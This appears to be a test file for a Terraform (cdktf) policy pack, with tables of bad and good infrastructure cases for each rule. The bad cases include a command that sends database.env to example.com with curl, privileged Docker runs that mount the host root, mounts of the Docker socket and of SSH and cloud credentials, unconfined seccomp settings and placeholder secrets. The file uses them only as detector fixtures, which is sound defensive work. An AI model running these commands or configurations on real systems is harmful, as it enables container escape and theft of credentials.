/**
 * The policy pack judges each stack's final Terraform document. Every rule has a table of bad
 * cases (each one member of a class of escape: overrides, expressions, other resource types,
 * other spellings) and good cases (what the week's own stacks write, and safe variants).
 */
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { App, Aspects, TerraformOutput, TerraformStack, TerraformVariable, type IAspect } from "cdktf";
import { Construct, type IConstruct } from "constructs";
import { DockerProvider } from "@cdktf/provider-docker/lib/provider";
import { Container, type ContainerConfig } from "@cdktf/provider-docker/lib/container";
import { Image } from "@cdktf/provider-docker/lib/image";
import { Volume } from "@cdktf/provider-docker/lib/volume";
import { CloudRunV2Service, type CloudRunV2ServiceConfig } from "@cdktf/provider-google/lib/cloud-run-v2-service";
import { CloudRunV2ServiceIamMember } from "@cdktf/provider-google/lib/cloud-run-v2-service-iam-member";
import { SqlDatabaseInstance, type SqlDatabaseInstanceConfig, type SqlDatabaseInstanceSettings } from "@cdktf/provider-google/lib/sql-database-instance";
import { ServiceAccount } from "@cdktf/provider-google/lib/service-account";
import { App as HerokuApp } from "../imports/providers/heroku/app";
import { BuildContext } from "../constructs/shared/build-context";
import { HerokuContainerApp } from "../constructs/heroku/container-app";
import { PolicyFindingsError, PolicyPack, RULE_IDS, WEEK_RULES, judgeDocument, suppress } from "../policies";
import type { PolicyRule, TerraformDocument } from "../policies";
import { isPinnedReference } from "../policies/image-ref";
import { KNOWN_LOCAL_EXEC } from "../policies/allow-list";
import { containerOfCompose, hostControlFindings, limitsFindings, portFindings } from "../policies/container";
import { envSecretFindings } from "../policies/rules/secret-literals";
import { testApp, weekConfig } from "./helpers";
import { LocalStack } from "../stacks/local-stack";
import { GcpStack } from "../stacks/gcp-stack";
import { HerokuStack } from "../stacks/heroku-stack";

function rule(id: string): PolicyRule {
  const found = WEEK_RULES.find((r) => r.id === id);
  if (found === undefined) throw new Error(`no rule ${id}`);
  return found;
}

type Make = ((scope: Construct) => void) & { stackName?: string };

/** `make` in a stack of that name (WEEK-PACK-001 judges each stack by its own table). */
function inStack(stackName: string, make: Make): Make {
  return Object.assign((s: Construct) => make(s), { stackName });
}

/** Builds a stack with `make`, applies one rule, and judges the stack's final document in memory. */
function check(id: string, make: Make) {
  const stack = new TerraformStack(testApp(), make.stackName ?? "policy");
  make(stack);
  return PolicyPack.applyTo(stack, [rule(id)]).judge();
}

const goodContainer: ContainerConfig = {
  name: "svc",
  image: "busybox:1.37.0",
  memory: 128,
  restart: "unless-stopped",
  healthcheck: { test: ["CMD", "true"] },
  ports: [{ internal: 80, external: 8081, ip: "127.0.0.1" }],
};

/** A good container, then raw Terraform JSON overrides (the escape hatch cdktf offers every resource). */
function container(overrides: Record<string, unknown> = {}, config: Partial<ContainerConfig> = {}): Make {
  return (s) => {
    const c = new Container(s, "c", { ...goodContainer, ...config });
    for (const [key, value] of Object.entries(overrides)) c.addOverride(key, value);
  };
}

const goodSettings: SqlDatabaseInstanceSettings = {
  tier: "db-f1-micro",
  edition: "ENTERPRISE",
  deletionProtectionEnabled: true,
  backupConfiguration: { enabled: true },
  ipConfiguration: { sslMode: "ENCRYPTED_ONLY" },
};
const goodSql: SqlDatabaseInstanceConfig = { databaseVersion: "POSTGRES_16", region: "europe-west1", deletionProtection: true, settings: goodSettings };

function sql(overrides: Record<string, unknown> = {}): Make {
  return (s) => {
    const db = new SqlDatabaseInstance(s, "db", goodSql);
    for (const [key, value] of Object.entries(overrides)) db.addOverride(key, value);
  };
}

function networks(...values: string[]): Make {
  return sql({ "settings.ip_configuration.authorized_networks": values.map((value, i) => ({ name: `n${i}`, value })) });
}

const goodRun: CloudRunV2ServiceConfig = {
  name: "api",
  location: "europe-west1",
  template: { serviceAccount: "week-api@p.iam.gserviceaccount.com", containers: [{ image: "europe-west1-docker.pkg.dev/p/week/api@sha256:" + "a".repeat(64) }] },
};

function run(overrides: Record<string, unknown> = {}): Make {
  return (s) => {
    const r = new CloudRunV2Service(s, "r", goodRun);
    for (const [key, value] of Object.entries(overrides)) r.addOverride(key, value);
  };
}

/** A raw resource added by override, as anyone can (no construct, no metadata path). */
function raw(type: string, name: string, body: Record<string, unknown>): Make {
  return (s) => (s as TerraformStack).addOverride(`resource.${type}.${name}`, body);
}

function invoker(member: string): Make {
  return (s) => new CloudRunV2ServiceIamMember(s, "m", { name: "api", location: "europe-west1", role: "roles/run.invoker", member });
}

const goodDockerfile = [
  "ARG BASE_IMAGE=python:3.11-slim-bookworm",
  "FROM ${BASE_IMAGE} AS build",
  "RUN apt-get update && apt-get install -y --no-install-recommends tini && rm -rf /var/lib/apt/lists/*",
  "RUN pip install --no-cache-dir fastapi==0.142.2",
  "FROM ${BASE_IMAGE} AS runtime",
  "COPY --from=build /opt /opt",
  "ADD app.tar.gz /opt/app/",
  "USER app",
  'CMD ["python"]',
].join("\n");

/** A build of `dockerfile` from a staged context, as the week's images are built; `build` is the docker_image build block. */
function image(dockerfile: string, build: Record<string, unknown> = {}, extraFiles: Record<string, string> = {}): Make {
  return (s) => {
    const source = fs.mkdtempSync(path.join(os.tmpdir(), "week-policy-"));
    const ctx = new BuildContext(s, "ctx", { source, files: { Dockerfile: dockerfile, ...extraFiles } });
    fs.rmSync(source, { recursive: true });
    const img = new Image(s, "img", { name: `week-test:${ctx.tag}`, buildAttribute: { context: ctx.path, dockerfile: "Dockerfile" } });
    for (const [key, value] of Object.entries(build)) img.addOverride(`build.${key}`, value);
  };
}
const dockerfileWith = (from: string, to: string) => image(goodDockerfile.replace(from, to));

/** A Heroku container app built from a folder with `files`: the build reads the Dockerfiles its heroku.yml names. */
function herokuBuild(files: Record<string, string>): Make {
  return (s) => {
    const source = fs.mkdtempSync(path.join(os.tmpdir(), "week-policy-heroku-"));
    for (const [name, content] of Object.entries(files)) fs.writeFileSync(path.join(source, name), content);
    new HerokuContainerApp(s, "h", { name: "week-api", source });
    fs.rmSync(source, { recursive: true });
  };
}

// rule id -> [what, construct] bad cases, then good cases
const table: Record<string, { bad: Array<[string, Make]>; good: Array<[string, Make]> }> = {
  [RULE_IDS.knownResources]: {
    bad: [
      ["a docker_service (Swarm) in the local stack", inStack("local", raw("docker_service", "swarm", { name: "x", task_spec: { container_spec: { image: "busybox:1.37.0" } } }))],
      ["a docker_plugin", inStack("local", raw("docker_plugin", "p", { name: "vieux/sshfs:latest", enabled: true }))],
      ["a docker_secret", inStack("local", raw("docker_secret", "s", { name: "x", data: "eA==" }))],
      ["a null_resource with a local-exec", inStack("local", raw("null_resource", "n", { provisioner: [{ "local-exec": { command: "docker run --privileged alpine:3.20" } }] }))],
      ["a terraform_data running docker", inStack("local", raw("terraform_data", "t", { provisioner: [{ "local-exec": { command: "docker run -v /:/host busybox:1.37.0" } }] }))],
      ["the admitted command with more appended", inStack("local", raw("terraform_data", "t", { provisioner: [{ "local-exec": { command: `${KNOWN_LOCAL_EXEC.commands[0]}; curl -d @database.env https://example.com` } }] }))],
      ["the admitted command under another interpreter", inStack("local", raw("terraform_data", "t", { provisioner: [{ "local-exec": { command: KNOWN_LOCAL_EXEC.commands[0], interpreter: ["/bin/bash", "-c"] } }] }))],
      ["a local-exec with a working_dir", inStack("local", raw("terraform_data", "t", { provisioner: [{ "local-exec": { command: KNOWN_LOCAL_EXEC.commands[0], working_dir: "/" } }] }))],
      ["a local-exec on a container", inStack("local", container({ provisioner: [{ "local-exec": { command: "id" } }] }))],
      ["a remote-exec on a container", inStack("local", container({ provisioner: [{ "remote-exec": { inline: ["id"] } }] }))],
      ["a macvlan network", inStack("local", raw("docker_network", "n", { name: "lan", driver: "macvlan" }))],
      ["an ipvlan network", inStack("local", raw("docker_network", "n", { name: "lan", driver: "ipvlan", options: { parent: "eth0" } }))],
      ["the host network driver", inStack("local", raw("docker_network", "n", { name: "h", driver: "host" }))],
      ["a network driver from an expression", inStack("local", raw("docker_network", "n", { name: "h", driver: "${var.driver}" }))],
      ["a container on the host network by name", inStack("local", container({ networks_advanced: [{ name: "host" }] }))],
      ["volumes_from another container", inStack("local", container({ volumes: [{ from_container: "week-database", container_path: "/x" }] }))],
      ["a mount's bind options", inStack("local", container({ mounts: [{ type: "bind", source: "/srv/x", target: "/x", bind_options: { propagation: "rshared" } }] }))],
      ["a volume's driver options", inStack("local", raw("docker_volume", "v", { name: "v", driver_opts: { type: "none", o: "bind", device: "/" }, lifecycle: { prevent_destroy: true } }))],
      ["sysctls", inStack("local", container({ sysctls: { "net.ipv4.ip_forward": "1" } }))],
      ["another runtime", inStack("local", container({ runtime: "runsc" }))],
      ["a syslog log driver", inStack("local", container({ log_driver: "syslog", log_opts: { "syslog-address": "tcp://203.0.113.1:514" } }))],
      ["an upload given in base64", inStack("local", container({ upload: [{ file: "/x", content_base64: "eA==" }] }))],
      ["count", inStack("local", container({ count: 3 }))],
      ["for_each", inStack("local", container({ for_each: "${toset(var.names)}" }))],
      ["a dynamic block", inStack("local", container({ dynamic: { volumes: { for_each: "${var.v}", content: { host_path: "/" } } } }))],
      ["a whole block from an expression", inStack("local", container({ volumes: "${var.volumes}" }))],
      ["a module", inStack("local", (s) => (s as TerraformStack).addOverride("module.m", { source: "./m" }))],
      ["a data source that runs a program", inStack("local", (s) => (s as TerraformStack).addOverride("data.external.x", { program: ["sh", "-c", "id"] }))],
      ["an http data source", inStack("local", (s) => (s as TerraformStack).addOverride("data.http.x", { url: "https://example.com" }))],
      ["a provider the stack does not use", inStack("local", (s) => (s as TerraformStack).addOverride("provider.external", [{}]))],
      ["a Google resource in the local stack", inStack("local", run())],
      ["a v1 Cloud Run service in the gcp stack", inStack("gcp", raw("google_cloud_run_service", "old", { name: "x", location: "l", template: { spec: { containers: [{ image: "gcr.io/p/api@sha256:" + "a".repeat(64) }] } } }))],
      ["a custom role in the gcp stack", inStack("gcp", raw("google_project_iam_custom_role", "r", { role_id: "x", title: "x", permissions: ["run.routes.invoke"] }))],
      ["a Heroku build from a remote tarball", inStack("heroku", raw("heroku_build", "b", { app_id: "a", source: { url: "https://example.com/app.tgz" } }))],
      ["any resource in a stack that has no table", inStack("classroom-x", container())],
      ["a remote state backend", inStack("local", (s) => (s as TerraformStack).addOverride("terraform.backend", { http: { address: "https://example.com/state" } }))],
      ["a Terraform Cloud block", inStack("local", (s) => (s as TerraformStack).addOverride("terraform.cloud", { organization: "x" }))],
    ],
    good: [
      ["the week's container shape", inStack("local", container())],
      ["a bridge network", inStack("local", raw("docker_network", "n", { name: "week", driver: "bridge" }))],
      ["a protected named volume", inStack("local", (s) => new Volume(s, "v", { name: "data", lifecycle: { preventDestroy: true } }))],
      ["the one admitted local-exec", inStack("local", raw("terraform_data", "t", { provisioner: [{ "local-exec": { command: KNOWN_LOCAL_EXEC.commands[0], interpreter: [...KNOWN_LOCAL_EXEC.interpreter] } }] }))],
      ["a container on a declared network", inStack("local", (s) => { raw("docker_network", "n", { name: "week", driver: "bridge" })(s); container({ networks_advanced: [{ name: "${docker_network.n.name}", aliases: ["api"] }] })(s); })],
      ["a Cloud Run service in the gcp stack", inStack("gcp", run())],
      ["a Heroku app in the heroku stack", inStack("heroku", (s) => new HerokuApp(s, "a", { name: "week-api", region: "eu", stack: "container" }))],
    ],
  },
  [RULE_IDS.dockerPinnedImage]: {
    bad: [
      ["an image tagged latest", (s) => new Image(s, "i", { name: "postgres:latest" })],
      ["LATEST in capitals", (s) => new Image(s, "i", { name: "postgres:LATEST" })],
      ["a major only", (s) => new Image(s, "i", { name: "postgres:17" })],
      ["a major with a variant", (s) => new Image(s, "i", { name: "postgres:17-bookworm" })],
      ["the stable channel", (s) => new Image(s, "i", { name: "nginx:stable" })],
      ["the rolling channel", (s) => new Image(s, "i", { name: "ubuntu:rolling" })],
      ["the edge channel", (s) => new Image(s, "i", { name: "alpine:edge" })],
      ["the lts channel", (s) => new Image(s, "i", { name: "node:lts-slim" })],
      ["a codename", (s) => new Image(s, "i", { name: "ubuntu:noble" })],
      ["no tag on a registry with a port", (s) => new Image(s, "i", { name: "registry.local:5000/week/api" })],
      ["a short digest", (s) => new Image(s, "i", { name: "postgres@sha256:abc" })],
      ["an untagged container image", container({}, { image: "busybox" })],
      ["a tag built from an expression", (s) => new Image(s, "i", { name: "postgres:${var.tag}" })],
      ["a container image from a variable", container({ image: "${var.image}" })],
      ["a reference to an image the document lacks", container({ image: "${docker_image.elsewhere.image_id}" })],
      ["a Cloud Run image at latest", run({ "template.containers": [{ image: "gcr.io/p/api:latest" }] })],
      ["Cloud Run containers in a dynamic block", run({ "template.containers": undefined, "template.dynamic.containers": { for_each: "${var.c}", content: { image: "${containers.value}" } } })],
      ["a v1 Cloud Run service at a major", raw("google_cloud_run_service", "old", { name: "x", location: "l", template: { spec: { containers: [{ image: "gcr.io/p/api:1" }] } } })],
      ["a second container added by override", raw("docker_container", "extra", { name: "x", image: "redis:7" })],
      ["a release candidate inside the tag", (s) => new Image(s, "i", { name: "python:3.14-rc-slim" })],
      ["latest after a release number", (s) => new Image(s, "i", { name: "postgres:17.6-latest" })],
      ["a beta suffix", (s) => new Image(s, "i", { name: "redis:7.4.0-beta" })],
      ["a nightly in the middle", (s) => new Image(s, "i", { name: "node:22.1-nightly-bookworm" })],
      ["a pre-release glued to the number", (s) => new Image(s, "i", { name: "python:3.14.0rc1" })],
      ["a SNAPSHOT", (s) => new Image(s, "i", { name: "app:1.2.3-SNAPSHOT" })],
      ["a preview after a dot", (s) => new Image(s, "i", { name: "app:2.0.0.preview" })],
      ["a canary", (s) => new Image(s, "i", { name: "app:1.2.3-canary" })],
      ["testing with an underscore", (s) => new Image(s, "i", { name: "app:1.2_testing" })],
      ["a dev channel", (s) => new Image(s, "i", { name: "app:1.2-dev" })],
      ["a word the release grammar does not know", (s) => new Image(s, "i", { name: "app:1.2.3-mine" })],
    ],
    good: [
      ["a full PostgreSQL release with its distribution", (s) => new Image(s, "i", { name: "postgres:17.6-bookworm" })],
      ["a three-number release", container()],
      ["a dated codename", (s) => new Image(s, "i", { name: "ubuntu:noble-20240904" })],
      ["a digest", (s) => new Image(s, "i", { name: "postgres@sha256:" + "b".repeat(64) })],
      ["an Alpine release variant", (s) => new Image(s, "i", { name: "node:20.11-alpine3.19" })],
      ["a flavour and a distribution release", (s) => new Image(s, "i", { name: "nvidia/cuda:12.2.0-runtime-ubuntu22.04" })],
      ["an image id", container({ image: "sha256:" + "c".repeat(64) })],
      ["a locally built image, named by its context", image(goodDockerfile)],
      ["the id of an image the document pulls", (s) => { const i = new Image(s, "i", { name: "postgres:17.6-bookworm" }); new Container(s, "c", { ...goodContainer, image: i.imageId }); }],
      ["a Cloud Run image by the digest of a pushed image", (s) => { raw("docker_registry_image", "pushed", { name: "x" })(s); run({ "template.containers": [{ image: "europe-west1-docker.pkg.dev/p/week/api@${docker_registry_image.pushed.sha256_digest}" }] })(s); }],
    ],
  },
  [RULE_IDS.dockerLoopbackPorts]: {
    bad: [
      ["a port on every interface", container({}, { ports: [{ internal: 80, external: 8081 }] })],
      ["a port on 0.0.0.0", container({}, { ports: [{ internal: 80, external: 8081, ip: "0.0.0.0" }] })],
      ["a port on ::", container({}, { ports: [{ internal: 80, external: 8081, ip: "::" }] })],
      ["a random host port on every interface", container({}, { ports: [{ internal: 80 }] })],
      ["an address from an expression", container({ "ports.0.ip": "${var.ip}" })],
      ["the whole ports list from an expression", container({ ports: "${var.ports}" })],
      ["a port added by override after the construct", container({ ports: [{ internal: 80, external: 9000, ip: "0.0.0.0" }] })],
    ],
    good: [
      ["127.0.0.1", container()],
      ["::1", container({}, { ports: [{ internal: 80, external: 8081, ip: "::1" }] })],
      ["no published port", container({}, { ports: undefined })],
    ],
  },
  [RULE_IDS.dockerContainerLimits]: {
    bad: [
      ["no healthcheck", container({}, { healthcheck: undefined })],
      ["a NONE healthcheck", container({}, { healthcheck: { test: ["NONE"] } })],
      ["no memory limit", container({}, { memory: undefined })],
      ["a memory of 0", container({ memory: 0 })],
      ["a memory of ${0}", container({ memory: "${0}" })],
      ["a memory from a variable", container({ memory: "${var.memory}" })],
      ["no restart policy", container({}, { restart: "no" })],
      ["a restart policy from an expression", container({ restart: "${var.restart}" })],
      ["a healthcheck test from an expression", container({ "healthcheck.test": "${var.test}" })],
    ],
    good: [
      ["the whole set", container()],
      ["a memory given as a numeric string", container({ memory: "256" })],
      ["on-failure with a count", container({ restart: "on-failure:3" })],
    ],
  },
  [RULE_IDS.dockerNoHostControl]: {
    bad: [
      ["a privileged container", container({}, { privileged: true })],
      ['privileged as "${true}"', container({ privileged: "${true}" })],
      ['privileged as "true"', container({ privileged: "true" })],
      ["user root", container({ user: "root" })],
      ["user 0:0", container({ user: "0:0" })],
      ["user from an expression", container({ user: "${var.user}" })],
      ["host network", container({ network_mode: "host" })],
      ["another container's network", container({ network_mode: "container:db" })],
      ["network mode from an expression", container({ network_mode: "${var.mode}" })],
      ["host pid", container({ pid_mode: "host" })],
      ["host ipc", container({ ipc_mode: "host" })],
      ["host user namespace", container({ userns_mode: "host" })],
      ["host cgroup namespace", container({ cgroupns_mode: "host" })],
      ["an added capability", container({ capabilities: { add: ["NET_ADMIN"] } })],
      ["ALL capabilities", container({ capabilities: { add: ["ALL"], drop: [] } })],
      ["capabilities from an expression", container({ capabilities: "${var.caps}" })],
      ["a host device", container({ devices: [{ host_path: "/dev/kvm" }] })],
      ["the Docker socket", container({}, { volumes: [{ hostPath: "/var/run/docker.sock", containerPath: "/var/run/docker.sock" }] })],
      ["the Docker socket through /run", container({}, { volumes: [{ hostPath: "/run/docker.sock", containerPath: "/s" }] })],
      ["the containerd socket", container({}, { volumes: [{ hostPath: "/run/containerd/containerd.sock", containerPath: "/s" }] })],
      ["the host's root", container({}, { volumes: [{ hostPath: "/", containerPath: "/host" }] })],
      ["the host's root with a trailing dot", container({}, { volumes: [{ hostPath: "/.", containerPath: "/host" }] })],
      ["/var/run", container({}, { volumes: [{ hostPath: "/var/run", containerPath: "/r" }] })],
      ["/etc", container({}, { volumes: [{ hostPath: "/etc/", containerPath: "/e" }] })],
      ["/etc through ..", container({}, { volumes: [{ hostPath: "/tmp/../etc", containerPath: "/e" }] })],
      ["/proc", container({}, { volumes: [{ hostPath: "/proc", containerPath: "/p" }] })],
      ["/sys", container({}, { volumes: [{ hostPath: "/sys/fs/cgroup", containerPath: "/c" }] })],
      ["/root", container({}, { volumes: [{ hostPath: "/root/.ssh", containerPath: "/k" }] })],
      ["a user's ssh keys", container({}, { volumes: [{ hostPath: "/home/ada/.ssh", containerPath: "/k" }] })],
      ["a user's cloud credentials", container({}, { volumes: [{ hostPath: "/home/ada/.config/gcloud", containerPath: "/g" }] })],
      ["a bind mount of /", container({ mounts: [{ type: "bind", source: "/", target: "/host" }] })],
      ["a host path from an expression", container({}, { volumes: [{ hostPath: "${var.dir}", containerPath: "/d" }] })],
      ["seccomp unconfined", container({ security_opts: ["seccomp=unconfined"] })],
      ["apparmor unconfined", container({ security_opts: ["apparmor:unconfined"] })],
      ["SELinux labels off", container({ security_opts: ["label=disable"] })],
      ["privileged added by an override after the construct", container({ privileged: true })],
      ["user +0 (Go's Atoi reads a sign)", container({ user: "+0" })],
      ["user -0", container({ user: "-0" })],
      ["user 00:00", container({ user: "00:00" })],
      ["user root with a group", container({ user: "root:x" })],
      ["user ROOT", container({ user: "ROOT" })],
      ["user 0x0, not a uid nor a plain name", container({ user: "0x0" })],
      ["an empty user part", container({ user: ":1000" })],
      ["a user with a space", container({ user: " 0" })],
      ["an allow-all seccomp profile given as JSON", container({ security_opts: ['seccomp={"defaultAction":"SCMP_ACT_ALLOW","syscalls":[]}'] })],
      ["a seccomp profile from a file", container({ security_opts: ["seccomp=/etc/docker/allow-all.json"] })],
      ["SELinux as spc_t", container({ security_opts: ["label=type:spc_t"] })],
      ["SELinux off with a colon", container({ security_opts: ["label:disable"] })],
      ["apparmor unconfined with =", container({ security_opts: ["apparmor=unconfined"] })],
      ["system paths unmasked", container({ security_opts: ["systempaths=unconfined"] })],
      ["volumes_from another container", container({ volumes: [{ from_container: "week-database", container_path: "/x" }] })],
      ["a bind mount with shared propagation", container({ mounts: [{ type: "bind", source: "/srv/x", target: "/x", bind_options: { propagation: "rshared" } }] })],
      ["a volume mount whose driver binds the host", container({ mounts: [{ type: "volume", source: "v", target: "/x", volume_options: { driver_name: "local", driver_options: { type: "none", o: "bind", device: "/" } } }] })],
      ["a named volume whose driver options bind-mount /", (s) => raw("docker_volume", "v", { name: "v", driver_opts: { type: "none", o: "bind", device: "/" } })(s)],
      ["a named volume on an NFS share", (s) => raw("docker_volume", "v", { name: "v", driver_opts: { type: "nfs", o: "addr=10.0.0.1", device: ":/export" } })(s)],
      ["a named volume with another driver", (s) => raw("docker_volume", "v", { name: "v", driver: "local-persist" })(s)],
      ["a whole home folder", container({}, { volumes: [{ hostPath: "/home/ada", containerPath: "/h" }] })],
      ["a whole home folder with a trailing slash", container({}, { volumes: [{ hostPath: "/home/ada/", containerPath: "/h" }] })],
      ["a macOS home folder", container({ mounts: [{ type: "bind", source: "/Users/ada", target: "/h" }] })],
      ["the host's /tmp (X11 and other sockets)", container({}, { volumes: [{ hostPath: "/tmp", containerPath: "/t" }] })],
    ],
    good: [
      ["a plain container", container()],
      ["a named volume", container({}, { volumes: [{ volumeName: "data", containerPath: "/data" }] })],
      ["a project folder", container({}, { volumes: [{ hostPath: "/home/ada/week/notebooks", containerPath: "/w" }] })],
      ["dropped capabilities", container({ capabilities: { drop: ["ALL"] } })],
      ["no-new-privileges", container({ security_opts: ["no-new-privileges:true"] })],
      ["privileged false as a string", container({ privileged: "false" })],
      ["a bridge network", container({ network_mode: "bridge" })],
      ["a non-root user", container({ user: "1000:1000" })],
      ["a user name with a group name", container({ user: "student:users" })],
      ["a non-root user in the root group", container({ user: "1000:0" })],
      ["no-new-privileges alone", container({ security_opts: ["no-new-privileges"] })],
      ["a named volume with the local driver", (s) => raw("docker_volume", "v", { name: "v", driver: "local" })(s)],
    ],
  },
  [RULE_IDS.statefulDestroyProtection]: {
    bad: [
      ["a volume without destroy protection", (s) => new Volume(s, "v", { name: "data" })],
      ["protection turned off by override", (s) => new Volume(s, "v", { name: "data", lifecycle: { preventDestroy: true } }).addOverride("lifecycle.prevent_destroy", false)],
      ["protection from an expression", (s) => new Volume(s, "v", { name: "data" }).addOverride("lifecycle.prevent_destroy", "${var.keep}")],
    ],
    good: [["a protected volume", (s) => new Volume(s, "v", { name: "data", lifecycle: { preventDestroy: true } })]],
  },
  [RULE_IDS.secretLiterals]: {
    bad: [
      ["a literal password", container({}, { env: ["POSTGRES_PASSWORD=hunter2"] })],
      ["DB_PASS", container({}, { env: ["DB_PASS=hunter2"] })],
      ["PGPASSWORD", container({}, { env: ["PGPASSWORD=hunter2"] })],
      ["SQLALCHEMY_DATABASE_URI", container({}, { env: ["SQLALCHEMY_DATABASE_URI=sqlite:///x.db"] })],
      ["a *_TOKEN", container({}, { env: ["GITHUB_TOKEN=ghp_abc"] })],
      ["a *_KEY", container({}, { env: ["STRIPE_KEY=sk_live_abc"] })],
      ["AWS_SECRET_ACCESS_KEY", container({}, { env: ["AWS_SECRET_ACCESS_KEY=abc"] })],
      ["a *SECRET*", container({}, { env: ["APP_SECRET_VALUE=abc"] })],
      ["a literal hidden in an expression", container({}, { env: ['POSTGRES_PASSWORD=${"hunter2"}'] })],
      ["a URL with a password under an innocent name", container({}, { env: ["DB=postgresql://u:hunter2@db/week"] })],
      ["a token as the user of an https URL", container({}, { env: ["REPO=https://ghp_abc123@github.com/ada/week.git"] })],
      ["a URL with a password inside a longer value", container({}, { env: ["OPTS=--url redis://:hunter2@cache:6379/0 --fast"] })],
      ["the environment from an expression", container({ env: "${var.env}" })],
      ["a whole entry from an expression", container({}, { env: ["${var.entry}"] })],
      ["an entry whose name is an expression", container({}, { env: ["${var.name}=hunter2"] })],
      ["Cloud Run containers in a dynamic block", run({ "template.dynamic.containers": { for_each: "${var.c}", content: { image: "x", env: [{ name: "TOKEN", value: "abc" }] } } })],
      ["a literal token in Cloud Run", run({ "template.containers": [{ image: "api@sha256:" + "a".repeat(64), env: [{ name: "API_TOKEN", value: "abc123" }] }] })],
      ["a password output that is not sensitive", (s) => new TerraformOutput(s, "database_password", { value: "${random_password.p.result}" })],
      ["an output that unwraps a generated password", (s) => new TerraformOutput(s, "x", { value: "${nonsensitive(random_password.p.result)}" })],
      ["an innocent output of a sensitive variable", (s) => { new TerraformVariable(s, "pw", { sensitive: true }); new TerraformOutput(s, "x", { value: "${var.pw}" }); }],
      ["a libpq DSN under an innocent name", container({}, { env: ["DB=host=db port=5432 user=week password=hunter2 dbname=week"] })],
      ["a ?password= URL parameter", container({}, { env: ["DB=postgresql://db/week?user=week&password=hunter2"] })],
      ["a JDBC ;password=", container({}, { env: ["JDBC=jdbc:sqlserver://db:1433;user=sa;password=Hunter2"] })],
      ["a GitHub token under any name", container({}, { env: [`X=${"ghp_" + "a1B2".repeat(9)}`] })],
      ["a token in the command", container({}, { command: ["git", "clone", `https://${"ghp_" + "a1B2".repeat(9)}@github.com/ada/week.git`] })],
      ["a password in the entrypoint", container({}, { entrypoint: ["sh", "-c", "PGPASSWORD=hunter2 psql -h db"] })],
      ["a password in the healthcheck", container({}, { healthcheck: { test: ["CMD", "mysqladmin", "ping", "--password=hunter2"] } })],
      ["a DSN in a label", container({}, { labels: [{ label: "db", value: "postgres://week:hunter2@db/week" }] })],
      ["a private key in an upload", container({}, { upload: [{ file: "/k", content: "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl\n-----END OPENSSH PRIVATE KEY-----\n" }] })],
      ["an AWS key in Cloud Run's env", run({ "template.containers": [{ image: "api@sha256:" + "a".repeat(64), env: [{ name: "CFG", value: "AKIAIOSFODNN7EXAMPLE" }] }] })],
      ["a token in a plain Heroku config var", (s) => new HerokuApp(s, "a", { name: "week-api", region: "eu", configVars: { NOTE: `xoxb-${"1".repeat(12)}-${"2".repeat(13)}-${"abcd".repeat(6)}` } })],
      ["a token in an output", (s) => new TerraformOutput(s, "clone", { value: `https://${"ghp_" + "a1B2".repeat(9)}@github.com/ada/week.git` })],
      ["a sensitive variable with a literal default", (s) => new TerraformVariable(s, "db", { sensitive: true, default: "hunter2" })],
      ["a variable named as a password with a default", (s) => new TerraformVariable(s, "db_password", { default: "hunter2" })],
      ["a token as a variable's default", (s) => new TerraformVariable(s, "t", { default: `${"ghp_" + "a1B2".repeat(9)}` })],
      ["a literal password in sensitive config vars (still written in cdktf.out)", (s) => new HerokuApp(s, "a", { name: "week-api", region: "eu", sensitiveConfigVars: { DB_PASSWORD: "hunter2" } })],
      ["a literal password in a provisioner's environment", (s) => raw("terraform_data", "t", { provisioner: [{ "local-exec": { command: "true", environment: { PGPASSWORD: "hunter2" } } }] })(s)],
      ["a URL password from an expression that is not a secret", container({}, { env: ["DB=postgresql://week:${var.plain}@db/week"] })],
    ],
    good: [
      ["a generated password", container({}, { env: ["POSTGRES_PASSWORD=${random_password.p.result}"] })],
      ["a whole entry from a generated password", container({}, { env: ["PGPASSWORD=${random_password.p.result}", "${join(\"=\", [\"TOKEN\", sensitive(var.t)])}"] })],
      ["a sensitive variable", (s) => { new TerraformVariable(s, "token", { sensitive: true }); container({}, { env: ["GIT_TOKEN=${var.token}"] })(s); }],
      ["a URL whose password is a sensitive local", (s) => { (s as TerraformStack).addOverride("locals.pw", "${sensitive(random_password.p.result)}"); container({}, { env: ["DATABASE_URL=postgresql://week:${urlencode(local.pw)}@db:5432/week"] })(s); }],
      ["a URL with a user and no password", container({}, { env: ["DB_HOST=postgresql://week@database:5432/week"] })],
      ["where a secret file is (the *_FILE convention)", container({}, { env: ["POSTGRES_PASSWORD_FILE=/run/secrets/pw"] })],
      ["ordinary names", container({}, { env: ["PORT=8000", "API_URL=http://api:8000", "KEYBOARD=fr", "BYPASS_CACHE=1", "API_ID_TOKEN_AUDIENCE=${var.url}"] })],
      ["a Cloud Run secret reference", run({ "template.containers": [{ image: "api@sha256:" + "a".repeat(64), env: [{ name: "DATABASE_URL", value_source: { secret_key_ref: { secret: "s", version: "1" } } }] }] })],
      ["a sensitive variable with an empty default", (s) => new TerraformVariable(s, "git_token", { sensitive: true, default: "" })],
      ["a sensitive password output", (s) => new TerraformOutput(s, "database_password", { value: "${random_password.p.result}", sensitive: true })],
      ["an output of a local its author declared nonsensitive", (s) => { (s as TerraformStack).addOverride("locals.file", "${sensitive(file(\"x\"))}"); (s as TerraformStack).addOverride("locals.user", "${nonsensitive(regex(\"U=(.*)\", local.file)[0])}"); new TerraformOutput(s, "psql", { value: "psql -U ${local.user}" }); }],
      ["a DSN whose password is generated", container({}, { env: ["DB=host=db user=week password=${random_password.p.result} dbname=week"] })],
      ["a healthcheck reading the password from the environment", container({}, { healthcheck: { test: ["CMD-SHELL", "PGPASSWORD=$POSTGRES_PASSWORD pg_isready -h 127.0.0.1"] } })],
      ["an ordinary command", container({}, { command: ["uvicorn", "app.main:app", "--host", "0.0.0.0", "--port", "8000"] })],
    ],
  },
  [RULE_IDS.herokuSensitiveConfig]: {
    bad: [
      ["a secret in plain config vars", (s) => new HerokuApp(s, "a", { name: "week-api", region: "eu", configVars: { SECRET_KEY: "x" } })],
      ["DB_PASS in plain config vars", (s) => new HerokuApp(s, "a", { name: "week-api", region: "eu", configVars: { DB_PASS: "x" } })],
      ["a URL with credentials under an innocent name", (s) => new HerokuApp(s, "a", { name: "week-api", region: "eu", configVars: { REDIS: "redis://:pw@host:6379" } })],
      ["config vars from an expression", (s) => new HerokuApp(s, "a", { name: "week-api", region: "eu" }).addOverride("config_vars", "${var.vars}")],
      ["a DSN in a plain config var", (s) => new HerokuApp(s, "a", { name: "week-api", region: "eu", configVars: { DB: "host=db password=hunter2" } })],
